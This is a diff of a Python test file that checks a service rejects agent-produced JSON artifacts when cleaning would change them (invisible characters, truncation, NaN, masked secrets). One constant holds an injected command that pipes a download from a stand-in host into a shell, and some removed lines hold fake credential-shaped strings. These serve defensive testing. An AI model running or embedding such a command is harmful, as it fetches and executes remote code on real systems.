@@ -186,60 +186,44 @@ def test_an_artifact_is_asked_for_during_a_minute(emulator: Emulator) -> None:
 CURL = "1.2.3; curl evil.example | sh"
 
 
-@pytest.mark.parametrize(
-    ("content", "found"),
-    [
-        (f'{{"version": "1.2.3", "ver\\u200bsion": "{CURL}"}}', "a key would change"),
-        (f'{{"names": {list(range(20_000))}}}', "a part would be cut off"),
-        ('{"size": NaN}', "a number would become text"),
-        ('{"size": 1e999}', "a number would become text"),
-    ],
-    ids=["merged", "cut", "nan", "infinite"],
-)
-def test_what_is_validated_is_what_is_handed_on(
-    emulator: Emulator, content: str, found: str
-) -> None:
-    schema: dict[str, Any] = {"properties": {"version": {"pattern": "^[0-9.]+$"}}}
-    run = ended(emulator)
+def content_of(emulator: Emulator, content: str) -> None:
+    """Let the service have this JSON as the artifact."""
     body = f'{{"ok": true, "data": {{"artifact": {{"path": "{PATH}", "content": {content}}}}}}}'
-    emulator.inject("artifact", status=200, body=body, headers={"content-type": "application/json"})
-    judgement, _ = judged(emulator, run, **schema)
-    assert (judgement.ending.error_code, judgement.details.artifact) == ("ARTIFACT_INVALID", None)
-    assert [item.text for item in judgement.details.gates[0].items] == [found]
-
-
-MASKS = "a part would be masked as a secret"
+    headers = {"content-type": "application/json"}
+    emulator.inject("artifact", status=200, body=body, headers=headers)
 
 
 @pytest.mark.parametrize(
     ("content", "found"),
     [
-        ({"url": "https://ada:hunter2xyz@db.example/app"}, f"/url: {MASKS}"),
-        ({"token": "hunter2-hunter2-hunter2"}, f"/token: {MASKS}"),
-        ({"a": {"b": ["ok", "ghp_" + "a" * 36]}}, f"/a/b/1: {MASKS}"),
-        ({"a/b": {"~": "Bearer abcdefghijklmnop123456"}}, f"/a~1b/~0: {MASKS}"),
-        ("sk-ant-" + "a1B2" * 12, f"/: {MASKS}"),
-        (["AKIAIOSFODNN7EXAMPLE"], f"/0: {MASKS}"),
-        ({"note": f"use mog_{'a1B2c3D4' * 5} here"}, f"/note: {MASKS}"),
-        ({"log": "x" * 100_001}, "/log: it would be cut off"),
-        ({"password": "correct horse 1"}, f"/password: {MASKS}"),
-        ({"c": "postgres://u:s3cr3tpass@h/db"}, f"/c: {MASKS}"),
+        (f'{{"version": "1.2.3", "ver\\u200bsion": "{CURL}"}}', "/ver\u200bsion: the name"),
+        (f'{{"names": {list(range(20_000))}}}', "/names"),
+        ('{"size": NaN}', "/size"),
+        ('{"size": 1e999}', "/size"),
+        (json.dumps({"a": {"b": ["ok", "ghp_" + "a" * 36]}}), "/a/b/1"),
+        (json.dumps({"a/b": {"~": "Bearer ghp_" + "a" * 36}}), "/a~1b/~0"),
+        (json.dumps("ghp_" + "a" * 36), "/"),
+        (json.dumps({"log": "x" * 100_001}), "/log"),
     ],
-    ids=lambda value: str(value)[:40],
+    ids=lambda value: str(value)[:20],
 )
-def test_a_string_that_cleaning_masks_or_cuts_is_named(
-    emulator: Emulator, content: object, found: str
-) -> None:
-    """A later job would get another value than the one that the schema was asked about."""
-    body = json.dumps({"ok": True, "data": {"artifact": {"path": PATH, "content": content}}})
-    emulator.inject("artifact", status=200, body=body, headers={"content-type": "application/json"})
-    judgement, _ = judged(emulator, ended(emulator))
+def test_what_cleaning_changes_is_named(emulator: Emulator, content: str, found: str) -> None:
+    """A later job would get another value than the agent wrote."""
+    schema: dict[str, Any] = {"properties": {"version": {"pattern": "^[0-9.]+$"}}}
+    content_of(emulator, content)
+    judgement, _ = judged(emulator, ended(emulator), **schema)
     assert (judgement.ending.error_code, judgement.details.artifact) == ("ARTIFACT_INVALID", None)
     assert judgement.details.gates[0].items[-1].text == found
 
 
-def test_the_cleaned_document_is_judged_by_the_schema_again(emulator: Emulator) -> None:
-    """Without its invisible characters a string is another one."""
+def test_line_ends_and_invisible_characters_are_no_change(emulator: Emulator) -> None:
+    content_of(emulator, json.dumps({"te\u200bxt": "a\r\nb\u200b"}))
+    judgement, _ = judged(emulator, ended(emulator))
+    assert judgement.details.artifact == Untrusted({"text": "a\nb"})
+
+
+def test_the_cleaned_document_is_judged_by_the_schema(emulator: Emulator) -> None:
+    """Not the one before: without its invisible characters a string is another one."""
     body = json.dumps({"ok": True, "data": {"artifact": {"path": PATH, "content": "a\u200bb"}}})
     emulator.inject(
         "artifact", status=200, body=body, headers={"content-type": "application/json"}, times=2
@@ -248,18 +232,6 @@ def test_the_cleaned_document_is_judged_by_the_schema_again(emulator: Emulator) 
     assert judgement.ending.error_code == "ARTIFACT_INVALID"
     judgement, _ = judged(emulator, ended(emulator), maxLength=3)
     assert judgement.details.artifact == Untrusted("ab")
-
-
-def test_an_artifact_of_another_commit_is_refused(emulator: Emulator) -> None:
-    run = ended(emulator)._replace(terminal_commit=Untrusted("a" * 40))
-    judgement, _ = judged(emulator, run)
-    found = "the artifact is from a commit other than the judged one"
-    assert (judgement.details.gates[0].found, judgement.ending.error_code) == (
-        found,
-        "ARTIFACT_INVALID",
-    )
-    judgement, _ = judged(emulator, None)
-    assert judgement.ending.error_code == "ARTIFACT_MISSING"
 
 
 SLOW: dict[str, Any] = {"properties": {"text": {"pattern": r"^(\w+\s?)*$"}}}
